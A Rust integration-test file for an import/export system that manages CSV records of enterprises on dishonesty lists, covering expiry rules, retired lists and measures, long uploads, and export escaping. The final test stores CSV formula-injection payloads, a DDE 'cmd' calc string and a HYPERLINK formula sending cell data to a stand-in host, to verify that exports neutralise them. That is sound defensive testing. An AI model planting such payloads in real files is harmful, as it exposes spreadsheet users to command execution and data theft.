        "mutation { upsertMeasure(input: {code: \"PROCUREMENT_RESTRICT\", name: \"限制参加政府采购活动\", domain: PROCUREMENT, effect: PROHIBIT, legalBasis: \"《企业信息公示暂行条例》第十八条；《中华人民共和国政府采购法》第二十二条第一款第(五)项\", active: false}) { code } }",
        json!({}),
    )
    .await
    .data();
    let none = valid_code("441802", 7402);
    let rows = vec![row(
        &none,
        "列-M",
        "2026-02-02",
        "2026-02-12",
        "2026-03-02",
        "",
        "",
        "",
    )];
    let r = run(&app, "none.csv", csv_text(&rows).as_bytes(), &who, |_| {}).await;
    assert_eq!(r.rejected, 1, "{:?}", r.errors);
    assert_eq!(
        r.errors[0].column.as_deref(),
        Some("惩戒措施"),
        "{:?}",
        r.errors
    );
    let r = run(&app, "list.csv", text.as_bytes(), &who, |_| {}).await;
    assert_eq!((r.unchanged, r.rejected), (3, 0), "{:?}", r.errors);
}

/// An EXPIRED row of a new listing is the end of its period: an earlier day is an early
/// removal (REPAIRED, with its minimum, or REVOKED) and is refused on 移出日期. A listing
/// recorded here whose end was corrected off a month boundary still re-imports unchanged.
async fn an_expired_row_is_the_end_of_its_period(app: TestApp) {
    let who = actor(None);
    let c = codes(2);
    let early = vec![row(
        &c[0],
        "列-E",
        "2025-05-06",
        "2025-05-12",
        "2025-06-03",
        "",
        "2025-07-01",
        "EXPIRED",
    )];
    for partial in [false, true] {
        let r = run(&app, "early.csv", csv_text(&early).as_bytes(), &who, |o| {
            o.partial = partial
        })
        .await;
        assert_eq!((r.created, r.rejected), (0, 1), "{:?}", r.errors);
        assert_eq!(
            r.errors[0].column.as_deref(),
            Some("移出日期"),
            "{:?}",
            r.errors
        );
        assert!(
            r.errors[0].message.contains("2028-06-03")
                && r.errors[0].message.contains("REPAIRED or REVOKED"),
            "{:?}",
            r.errors
        );
    }
    assert_eq!(app.count("listings").await, 0);
    // On the day 36 months end it: accepted, and off the list from then.
    let on_time = vec![row(
        &c[1],
        "列-F",
        "2023-01-10",
        "2023-02-01",
        "2023-03-01",
        "PROCUREMENT_RESTRICT",
        "2026-03-01",
        "EXPIRED",
    )];
    let r = run(
        &app,
        "on-time.csv",
        csv_text(&on_time).as_bytes(),
        &who,
        |_| {},
    )
    .await;
    assert_eq!(r.created, 1, "{:?}", r.errors);
    let l = listing_by_doc(&app, &c[1]).await;
    assert_eq!(l["status"], "EXPIRED");
    assert_eq!(l["expiresAt"], "2026-02-28T16:00:00+00:00");
    assert_eq!(
        decision_at(&app, &c[1], Some("2026-02-28T15:00:00Z")).await,
        "RESTRICTED"
    );
    assert_eq!(
        decision_at(&app, &c[1], Some("2026-02-28T16:00:00Z")).await,
        "CLEAR"
    );
    // Its end corrected (still in the past) off a month boundary: the export re-imports
    // unchanged, and a reason-only change keeps the end.
    app.gql(
        Some(&app.admin()),
        "mutation($i: CorrectListingInput!) { correctListing(input: $i) { version } }",
        json!({"i": {"id": l["id"], "expectedVersion": 1, "reason": "更正期限",
                     "expiresAt": "2026-03-21T05:00:00Z"}}),
    )
    .await
    .data();
    let exported = csv_rows(&export_listings(&app).await);
    assert_eq!(exported[1][13], "2026-03-21", "{exported:?}");
    assert_eq!(exported[1][14], "EXPIRED", "{exported:?}");
    let r = run(&app, "export.csv", &csv_of(&exported), &who, |_| {}).await;
    assert_eq!(
        (r.unchanged, r.updated, r.rejected),
        (1, 0, 0),
        "{:?}",
        r.errors
    );
    let mut edited = exported.clone();
    edited[1][7] = "更正后的列入事由".into();
    let r = run(&app, "reason.csv", &csv_of(&edited), &who, |_| {}).await;
    assert_eq!((r.updated, r.rejected), (1, 0), "{:?}", r.errors);
    assert_eq!(
        listing_by_doc(&app, &c[1]).await["expiresAt"],
        "2026-03-21T05:00:00+00:00"
    );
}

/// A row that restates the record is unchanged even when the rules that bind new
/// decisions would now refuse it: its list retired, one of its measures deactivated.
/// New listings (and measures a row adds) are still held to them.
async fn a_retired_list_and_measure_re_import_unchanged(app: TestApp) {
    let c = codes(3);
    let who = actor(None);
    let first = run(
        &app,
        "list.csv",
        csv_text(&three(&c)).as_bytes(),
        &who,
        |_| {},
    )
    .await;
    assert_eq!(first.created, 3, "{:?}", first.errors);
    let exported = csv_rows(&export_listings(&app).await);
    let deactivate = "mutation { upsertMeasure(input: {code: \"BIDDING_RESTRICT\", name: \"限制参加工程招投标\", domain: BIDDING, effect: PROHIBIT, legalBasis: \"《企业信息公示暂行条例》第十八条；《中华人民共和国招标投标法实施条例》第六十七条、第六十八条\", active: false}) { code } }";
    app.gql(Some(&app.admin()), deactivate, json!({}))
        .await
        .data();
    app.gql(
        Some(&app.admin()),
        "mutation { upsertList(input: {code: \"SAMR_SERIOUS_DISHONEST\", active: false}) { code } }",
        json!({}),
    )
    .await
    .data();
    let revisions = app.count("listing_revisions").await;
    let r = run(&app, "export.csv", &csv_of(&exported), &who, |_| {}).await;
    assert_eq!(
        (r.unchanged, r.updated, r.rejected),
        (3, 0, 0),
        "{:?}",
        r.errors
    );
    assert_eq!(app.count("listing_revisions").await, revisions);
    // A correction of another fact is still a correction.
    let mut edited = exported.clone();
    edited[1][7] = "更正后的列入事由".into();
    let r = run(&app, "reason.csv", &csv_of(&edited), &who, |_| {}).await;
    assert_eq!((r.updated, r.rejected), (1, 0), "{:?}", r.errors);
    // A new listing on the retired list is refused, and so is the deactivated measure
    // added to a listing that does not have it.
    let new = valid_code("441802", 7501);
    let rows = vec![row(
        &new,
        "列-N",
        "2026-02-02",
        "2026-02-12",
        "2026-03-02",
        "",
        "",
        "",
    )];
    let r = run(&app, "new.csv", csv_text(&rows).as_bytes(), &who, |_| {}).await;
    assert_eq!(r.rejected, 1, "{:?}", r.errors);
    assert_eq!(
        r.errors[0].column.as_deref(),
        Some("名单"),
        "{:?}",
        r.errors
    );
    // c[2] has PROCUREMENT_RESTRICT alone; the others have BIDDING_RESTRICT by default.
    let a = edited.iter().position(|r| r[0] == c[2]).unwrap();
    edited[a][12] = "PROCUREMENT_RESTRICT;BIDDING_RESTRICT".into();
    let r = run(&app, "added.csv", &csv_of(&edited), &who, |_| {}).await;
    assert_eq!(r.rejected, 1, "{:?}", r.errors);
    assert_eq!(
        r.errors[0].column.as_deref(),
        Some("惩戒措施"),
        "{:?}",
        r.errors
    );
}

fn short_request_timeout(s: &mut api::config::Settings) {
    s.limits.request_timeout_ms = 300;
}

/// An upload that outlasts the request timeout is answered before it (committed false,
/// a message saying it goes on) and runs to its end: never part of a file written under
/// a bare TIMEOUT.
async fn an_upload_past_the_request_timeout_runs_to_its_end(app: TestApp) {
    let n = 2000u32;
    let rows: Vec<Vec<String>> = (0..n)
        .map(|i| {
            row(
                &valid_code("441802", 20_000 + i),
                &format!("列-T{i}"),
                "2026-02-02",
                "2026-02-12",
                "2026-03-02",
                "",
                "",
                "",
            )
        })
        .collect();
    let text = csv_text(&rows);
    let q = "mutation($file: Upload!) { importListings(file: $file) { batchId sha256 rows committed message } }";
    let r = app
        .post_graphql_upload(
            Some(&app.admin()),
            &json!({"query": q, "variables": {"file": null}}),
            "big.csv",
            text.as_bytes(),
        )
        .await;
    assert_eq!(r.status, 200, "{}", r.body);
    let report = &r.body["data"]["importListings"];
    assert_eq!(report["committed"], false, "{}", r.body);
    assert!(
        report["message"]
            .as_str()
            .unwrap()
            .contains("goes on on the server"),
        "{}",
        r.body
    );
    assert_eq!(report["sha256"].as_str().unwrap().len(), 64, "{}", r.body);
    // It runs to its end: every row, once, and the batch done.
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(300);
    while app.count_where("import_batches", "status = 'DONE'").await == 0 {
        assert!(
            std::time::Instant::now() < deadline,
            "the import did not finish"
        );
        tokio::time::sleep(std::time::Duration::from_millis(200)).await;
    }
    assert_eq!(app.count("listings").await, i64::from(n));
    assert_eq!(
        app.count_where("import_batches", "status = 'RUNNING'")
            .await,
        0
    );
}

tests::on_both_backends_with!(
    an_upload_past_the_request_timeout_runs_to_its_end => short_request_timeout,
);

/// A text starting like a formula is written behind a `'` in every CSV export (the
/// public list, listings), so a spreadsheet shows it instead of running it, and the
/// listings export still re-imports unchanged.
async fn csv_exports_quote_formula_like_text(app: TestApp) {
    let who = actor(None);
    let code = codes(1).remove(0);
    let mut r = row(
        &code,
        "列-Q",
        "2026-02-02",
        "2026-02-12",
        "2026-03-02",
        "",
        "",
        "",
    );
    r[1] = "=cmd|' /C calc'!A0".into();
    r[7] = "=HYPERLINK(\"https://x.example/?\"&A1,\"open\")".into();
    let first = run(&app, "q.csv", csv_text(&[r]).as_bytes(), &who, |_| {}).await;
    assert_eq!(first.created, 1, "{:?}", first.errors);
    let public = app.get("/exports/public-list.csv").await;
    assert_eq!(public.status(), 200);
    let body = public.text().await.unwrap();
    assert!(body.contains("'=cmd|"), "{body}");
    assert!(
        !body.contains(",=cmd|") && !body.contains("\"=cmd|"),
        "{body}"
    );
    let exported = export_listings(&app).await;
    let text = String::from_utf8(exported.clone()).unwrap();
    assert!(text.contains("\"'=HYPERLINK("), "{text}");
    let again = run(&app, "export.csv", &exported, &who, |_| {}).await;
    assert_eq!(
        (again.unchanged, again.updated, again.rejected),
        (1, 0, 0),
        "{:?}",
        again.errors
    );
}
